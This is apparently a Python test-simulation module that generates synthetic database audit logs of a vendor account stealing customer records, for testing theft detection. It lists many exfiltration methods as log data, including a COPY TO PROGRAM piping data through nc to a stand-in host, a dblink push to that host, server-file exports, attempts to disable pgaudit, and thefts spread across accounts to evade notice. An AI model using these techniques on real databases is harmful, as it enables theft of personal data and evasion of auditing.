"""Thefts: every way we know in which a vendor's account carries customers away, at a strength given in people.

``one_time`` acts take all of them within a session or an hour; ``drips`` take a multiple of the account's ordinary day, day
after day, within the contract's limit. Each adds its sessions to an honest vendor's work and marks them.
"""

# ruff: noqa: E501 - all thefts are called alike; the statements of logs are long

from __future__ import annotations

import random
import re
from collections.abc import Callable, Iterator
from datetime import date, timedelta

from tests.simulation.log import Session, Statement
from tests.simulation.world import CANARY, FIRST_DAY, MEMBERS, Work, around, at, is_open, working_days

Theft = Callable[[Work, random.Random, int, date], None]
MARK = "theft"
TAKEN = "mbr_nm, hp_no, addr"


def _add(work: Work, day: date, hour: float, *statements: Statement, account: int = 0, address: str = "", app: str = "") -> None:
    work.add(day, hour, list(statements), account=account, theft=MARK, address=address, app=app)


def _hour(work: Work, rng: random.Random) -> float:
    """Within the contract's hours, so that the hour alone gives nothing away."""
    low, high = work.hours
    return rng.uniform(low + 1, high - 2)


def _some(people: int, columns: str = TAKEN, table: str = "crm.mbr") -> str:
    return f"SELECT {columns} FROM {table} WHERE mbr_no < {people + 1}"


def _once(make: Callable[[int], list[Statement]], *, app: str = "") -> Theft:
    def theft(work: Work, rng: random.Random, people: int, day: date) -> None:
        _add(work, day, _hour(work, rng), *make(people), app=app)

    return theft


def _select(text: str, rows: int, **more: object) -> list[Statement]:
    return [Statement(text, rows, **more)]  # type: ignore[arg-type]


def _copy_query(people: int) -> list[Statement]:
    text = f"COPY ({_some(people)}) TO STDOUT"
    return [Statement(text, command="COPY", substatements=(("READ", "SELECT", text, people), ("READ", "COPY", text, 0)))]


def _cursor(people: int) -> list[Statement]:
    steps = [Statement("FETCH FORWARD 100 FROM c", 0, "FETCH", "MISC", gap=0.2) for _ in range(people // 100)]
    return [Statement("BEGIN", 0, "BEGIN", "MISC"), Statement(f"DECLARE c CURSOR FOR {_some(people)}", 0, "DECLARE CURSOR"), *steps,
            Statement("COMMIT", 0, "COMMIT", "MISC")]  # fmt: skip


def _keyset(people: int) -> list[Statement]:
    return [Statement(f"SELECT mbr_no, {TAKEN} FROM crm.mbr WHERE mbr_no > {n} ORDER BY mbr_no LIMIT 50", 50, gap=0.5)
            for n in range(0, people, 50)]  # fmt: skip


def _offset(people: int) -> list[Statement]:
    return [
        Statement(f"SELECT {TAKEN} FROM crm.mbr ORDER BY mbr_no LIMIT 50 OFFSET {n}", 50, gap=0.5) for n in range(0, people, 50)
    ]


def _lookups(people: int) -> list[Statement]:
    return [Statement(f"SELECT {TAKEN} FROM crm.mbr WHERE mbr_no = {n}", 1, gap=0.25) for n in range(1, people + 1)]


def _in_lists(people: int) -> list[Statement]:
    return [Statement(f"SELECT {TAKEN} FROM crm.mbr WHERE mbr_no IN ({', '.join(map(str, range(n, n + 100)))})", 100)
            for n in range(1, people, 100)]  # fmt: skip


def _xml(people: int) -> list[Statement]:
    inner = _some(people)
    outer = f"SELECT query_to_xml('{inner}', true, false, '')"
    return [Statement(outer, substatements=(("READ", "SELECT", inner, people), ("READ", "SELECT", outer, 1)))]


def _halves(people: int) -> list[Statement]:
    return [Statement(f"SELECT mbr_no, substr(hp_no, 1, 6) FROM crm.mbr WHERE mbr_no < {people + 1}", people),
            Statement(f"SELECT mbr_no, substr(hp_no, 7) FROM crm.mbr WHERE mbr_no < {people + 1}", people, gap=90)]  # fmt: skip


def _new_table(kind: str, name: str) -> Callable[[int], list[Statement]]:
    def make(people: int) -> list[Statement]:
        text = f"CREATE {kind} {name} AS {_some(people, 'mbr_nm AS a, hp_no AS b')}"
        return [Statement(text, command="CREATE TABLE AS", substatements=(
                    ("READ", "SELECT", text, people), ("DDL", "CREATE TABLE AS", text, 0))),
                Statement(f"SELECT a, b FROM {name}", people, gap=300)]  # fmt: skip

    return make


def _aborted(people: int) -> list[Statement]:
    text = f"SELECT {TAKEN}, 1/(mbr_no - {people}) FROM crm.mbr WHERE mbr_no <= {people}"
    return [Statement(text, command="SELECT", error="22012 division by zero", gap=30)]


def _rolled_back(people: int) -> list[Statement]:
    text = f"UPDATE crm.mbr SET upd_dt = upd_dt WHERE mbr_no < {people + 1} RETURNING {TAKEN}"
    return [Statement("BEGIN", 0, "BEGIN", "MISC"), Statement(text, people, "UPDATE", "WRITE"),
            Statement("ROLLBACK", 0, "ROLLBACK", "MISC")]  # fmt: skip


def _server_file(target: str) -> Callable[[int], list[Statement]]:
    def make(people: int) -> list[Statement]:
        text = f"COPY ({_some(people)}) TO {target}"
        return [Statement(text, command="COPY", substatements=(("READ", "SELECT", text, people), ("READ", "COPY", text, 0)))]

    return make


def base_backup(work: Work, rng: random.Random, people: int, day: date) -> None:
    command = Statement(
        "BASE_BACKUP ( LABEL 'x', PROGRESS )", message="received replication command: BASE_BACKUP ( LABEL 'x', PROGRESS )"
    )
    begin = at(day, _hour(work, rng), work.zone)
    work.sessions.append(
        Session(work.accounts[0], work.addresses[0], "pg_basebackup", begin, (command,), MARK, "", walsender=True)
    )


def night(work: Work, rng: random.Random, people: int, day: date) -> None:
    _add(work, day, 2.3 + rng.random(), Statement(f"SELECT {work.columns} FROM {work.table} WHERE mbr_no < {people}", people))


def new_address(work: Work, rng: random.Random, people: int, day: date) -> None:
    statement = Statement(f"SELECT {work.columns} FROM {work.table} WHERE mbr_no < {people}", people)
    _add(work, day, _hour(work, rng), statement, address="203.0.113.9")


def new_tool(work: Work, rng: random.Random, people: int, day: date) -> None:
    statement = Statement(f"SELECT {work.columns} FROM {work.table} WHERE mbr_no < {people}", people)
    _add(work, day, _hour(work, rng), statement, app="DBeaver 25.1", address="10.99.3.3")


def dormant_account(work: Work, rng: random.Random, people: int, day: date) -> None:
    """An account that nobody has used since the first week."""
    work.accounts.append(f"{work.key}_old")
    work.addresses.append(work.addresses[0])
    begin = FIRST_DAY + timedelta(days=1)
    work.add(begin, 11, [Statement(f"SELECT {work.columns} FROM {work.table} WHERE mbr_no = 5")], account=len(work.accounts) - 1)
    statement = Statement(f"SELECT {work.columns} FROM {work.table} WHERE mbr_no < {people}", people)
    _add(work, max(day, FIRST_DAY + timedelta(days=66)), _hour(work, rng), statement, account=len(work.accounts) - 1)


def expired_contract(work: Work, rng: random.Random, people: int, day: date) -> None:
    """The contract ends; one of its people takes a last copy."""
    work.contract["until"] = str(day - timedelta(days=1))
    work.sessions = [session for session in work.sessions if session.begin < at(day, 0)]
    _add(work, day, _hour(work, rng), Statement(f"SELECT {work.columns} FROM {work.table} WHERE mbr_no < {people}", people))


def grant_before(work: Work, rng: random.Random, people: int, day: date) -> None:
    hour = _hour(work, rng)
    grant = Statement(f"GRANT SELECT ON crm.mbr TO {work.accounts[0]}", 0, "GRANT", "ROLE")
    work.sessions.append(Session("dba_kim", "10.1.1.1", "psql", at(day, hour, work.zone), (grant,), MARK))
    _add(work, day, hour + 0.4, Statement(_some(people), people))


def audit_off(work: Work, rng: random.Random, people: int, day: date) -> None:
    attempt = Statement("SET pgaudit.log = 'none'", command="SET", error='42501 permission denied to set parameter "pgaudit.log"')
    _add(work, day, _hour(work, rng), attempt)


def audit_role(work: Work, rng: random.Random, people: int, day: date) -> None:
    change = Statement(f"ALTER ROLE {work.accounts[0]} SET pgaudit.log = 'none'", 0, "ALTER ROLE", "ROLE")
    _add(work, day, _hour(work, rng), change)


def sensitive(work: Work, rng: random.Random, people: int, day: date) -> None:
    """Few people, but their resident registration numbers: a tenth of the strength."""
    _add(work, day, _hour(work, rng), Statement(_some(people // 10, "mbr_nm, jumin_no"), people // 10))


def imitation(work: Work, rng: random.Random, people: int, day: date) -> None:
    """The honest statement, word for word, for many days at once (other dates)."""
    reads = (st for session in work.sessions for st in session.statements if st.rows > 1 and st.cls == "READ")
    honest = next((st for st in reads if "(" not in st.text), None)  # an aggregate carries nobody away
    if honest is None:
        spread = [Statement(f"SELECT {work.columns} FROM {work.table} WHERE mbr_no = {n}", gap=2) for n in range(1, people + 1)]
    else:
        spread = [Statement(_of_others(honest.text, n), honest.rows, gap=20) for n in range(max(1, people // honest.rows))]
    _add(work, day, _hour(work, rng), *spread)


def _of_others(text: str, number: int) -> str:
    """The statement with other literals: another day, other keys, the next page."""
    text = re.sub(r"\d{4}-\d\d-\d\d", lambda m: str(date.fromisoformat(m[0]) - timedelta(days=number)), text)
    return re.sub(r"(> |OFFSET |= )(\d+)\b", lambda m: f"{m[1]}{int(m[2]) + 20 * number}", text)


def split_over_accounts(work: Work, rng: random.Random, people: int, day: date) -> None:
    """Twelve accounts take a part each within the same hour."""
    for n in range(12):
        work.accounts.append(f"{work.key}_s{n}")
        work.addresses.append(f"10.88.0.{n}")
        parts = [
            Statement(f"SELECT {TAKEN} FROM crm.mbr WHERE mbr_no = {rng.randrange(MEMBERS)}", gap=2) for _ in range(people // 12)
        ]
        _add(work, day, _hour(work, rng), *parts, account=len(work.accounts) - 1)


def canary(work: Work, rng: random.Random, people: int, day: date) -> None:
    """One person is looked up who exists for nobody's work."""
    _add(work, day, _hour(work, rng), Statement(f"SELECT {work.columns} FROM {work.table} WHERE mbr_no = {CANARY}"))


ONE_TIME: dict[str, Theft] = {
    "bulk_select": _once(lambda n: _select(_some(n), n)),
    "copy_table": _once(lambda n: _select("COPY crm.mbr TO STDOUT", 0, command="COPY")),
    "copy_query": _once(_copy_query),
    "pg_dump": _once(lambda n: _select("COPY crm.mbr (mbr_no, mbr_nm, hp_no) TO stdout;", 0, command="COPY"), app="pg_dump"),
    "cursor": _once(_cursor),
    "keyset_paging": _once(_keyset),
    "offset_paging": _once(_offset),
    "lookups": _once(_lookups),
    "in_lists": _once(_in_lists),
    "string_agg": _once(lambda n: _select(f"SELECT string_agg(hp_no, ',') FROM crm.mbr WHERE mbr_no < {n + 1}", 1)),
    "json_agg": _once(lambda n: _select(f"SELECT json_agg(m) FROM crm.mbr m WHERE mbr_no < {n + 1}", 1)),
    "row_to_json": _once(lambda n: _select(f"SELECT row_to_json(m) FROM crm.mbr m WHERE mbr_no < {n + 1}", n)),
    "query_to_xml": _once(_xml),
    "encoded": _once(lambda n: _select(f"SELECT encode(convert_to(hp_no, 'UTF8'), 'base64') FROM crm.mbr WHERE mbr_no < {n + 1}", n)),
    "hashed": _once(lambda n: _select(f"SELECT mbr_no, md5(hp_no) FROM crm.mbr WHERE mbr_no < {n + 1}", n)),
    "halves": _once(_halves),
    "view": _once(lambda n: _select(f"SELECT nm, tel FROM crm.v_mbr WHERE mbr_no < {n + 1}", n)),
    "definer_function": _once(lambda n: _select(f"SELECT * FROM crm.f_mbr() LIMIT {n}", n)),
    "new_table": _once(_new_table("TABLE", "public.tmp_x")),
    "temp_table": _once(_new_table("TEMP TABLE", "t1")),
    "server_file": _once(_server_file("'/var/lib/postgresql/m.csv'")),
    "program": _once(_server_file("PROGRAM 'nc 203.0.113.9 443'")),
    "large_object": _once(lambda n: _select(
        f"SELECT lo_export(lo_from_bytea(0, convert_to(string_agg(hp_no, ','), 'UTF8')), '/var/lib/postgresql/x') FROM crm.mbr WHERE mbr_no < {n + 1}", 1)),
    "notification": _once(lambda n: _select(f"SELECT pg_notify('x', hp_no) FROM crm.mbr WHERE mbr_no < {n + 1}", n)),
    "dblink": _once(lambda n: _select(
        f"SELECT dblink_exec('host=203.0.113.9', 'insert into t values (' || quote_literal(hp_no) || ')') FROM crm.mbr WHERE mbr_no < {n + 1}", n)),
    "logical_slot": _once(lambda n: _select("SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)", n)),
    "base_backup": base_backup,
    "aborted": _once(_aborted),
    "rolled_back": _once(_rolled_back),
    "night": night,
    "new_address": new_address,
    "new_tool": new_tool,
    "dormant_account": dormant_account,
    "expired_contract": expired_contract,
    "grant_before": grant_before,
    "audit_off": audit_off,
    "audit_role": audit_role,
    "sensitive": sensitive,
    "imitation": imitation,
    "split_over_accounts": split_over_accounts,
    "canary": canary,
}  # fmt: skip


def _drip(
    daily: Callable[[Work, random.Random, int, date], Iterator[Statement]],
) -> Callable[[Work, random.Random, float, date], None]:
    def theft(work: Work, rng: random.Random, times: float, day: date) -> None:
        for when in working_days(day, 15):
            people = round((times - 1) * work.people)  # beside the honest work
            _add(work, when, _hour(work, rng), *daily(work, rng, people, when))

    return theft


@_drip
def drip_lookups(work: Work, rng: random.Random, people: int, day: date) -> Iterator[Statement]:
    for _ in range(people):
        yield Statement(f"SELECT {work.columns} FROM {work.table} WHERE mbr_no = {rng.randrange(1, MEMBERS)}", gap=5)


@_drip
def drip_slices(work: Work, rng: random.Random, people: int, day: date) -> Iterator[Statement]:
    start = (day - FIRST_DAY).days * people
    yield Statement(f"SELECT {work.columns} FROM {work.table} WHERE mbr_no BETWEEN {start} AND {start + people - 1}", people)


@_drip
def drip_own_shape(work: Work, rng: random.Random, people: int, day: date) -> Iterator[Statement]:
    yield Statement(f"SELECT {work.columns} FROM {work.table} WHERE upd_dt > '{day - timedelta(days=9)}'", people)


def drip_accounts(work: Work, rng: random.Random, times: float, day: date) -> None:
    """Spread over eight further accounts, so that none of them stands out."""
    for n in range(8):
        work.accounts.append(f"{work.key}_d{n}")
        work.addresses.append(f"10.66.0.{n}")
        for when in (d for d in (FIRST_DAY + timedelta(days=k) for k in range(90)) if is_open(d)):
            work.add(when, 10 + rng.random(), [Statement(f"SELECT {work.columns} FROM {work.table} WHERE mbr_no = {rng.randrange(MEMBERS)}")
                                               for _ in range(around(rng, 5))], account=len(work.accounts) - 1)  # fmt: skip
    for when in working_days(day, 15):
        people = round((times - 1) * (work.people + 40))
        for n in range(8):
            parts = [Statement(f"SELECT {work.columns} FROM {work.table} WHERE mbr_no = {rng.randrange(MEMBERS)}", gap=3)
                     for _ in range(people // 8)]  # fmt: skip
            _add(work, when, _hour(work, rng), *parts, account=len(work.accounts) - 1 - n)


DRIPS: dict[str, Callable[[Work, random.Random, float, date], None]] = {
    "drip_lookups": drip_lookups,
    "drip_slices": drip_slices,
    "drip_own_shape": drip_own_shape,
    "drip_accounts": drip_accounts,
}
